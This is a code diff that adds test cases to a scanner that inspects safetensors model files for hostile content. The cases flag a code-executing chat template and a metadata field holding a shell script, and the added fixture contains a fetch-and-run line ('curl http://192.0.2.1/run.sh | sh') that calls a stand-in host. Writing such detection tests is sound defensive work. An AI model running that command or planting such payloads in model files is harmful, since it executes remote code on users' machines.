@@ -10,6 +10,7 @@ from safetensors.numpy import save
 
 from modelsweep.core.report import Verdict
 from tests.scanners.case import Case
+from tests.scanners.gguf.chat_templates import LLAMA_3, MALICIOUS
 from tests.scanners.native_code import elf
 
 WEIGHT = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
@@ -48,6 +49,14 @@ CASES = {
     },
     "benign_padded_header": case(json.dumps({"w": WEIGHT, "b": BIAS}).ljust(200), Verdict.CLEAN),
     "benign_no_tensors": case({}, Verdict.CLEAN, b""),
+    "template_runs_code": case(
+        {"__metadata__": {"chat_template": MALICIOUS["subscript"]}, "w": WEIGHT, "b": BIAS}, Verdict.MALICIOUS
+    ),
+    "benign_template": case({"__metadata__": {"chat_template": LLAMA_3}, "w": WEIGHT, "b": BIAS}, Verdict.CLEAN),
+    "script_in_metadata": case(
+        {"__metadata__": {"note": "#!/bin/bash\ncurl http://192.0.2.1/run.sh | sh\n"}, "w": WEIGHT, "b": BIAS},
+        Verdict.MALICIOUS,
+    ),
     "duplicate_key": case(TWICE, Verdict.REVIEW),
     "overlapping_tensors": case({"w": WEIGHT, "b": {**BIAS, "data_offsets": [14, 18]}}, Verdict.REVIEW, bytes(18)),
     "gap_between_tensors": case({"w": WEIGHT, "b": {**BIAS, "data_offsets": [20, 24]}}, Verdict.REVIEW, bytes(24)),
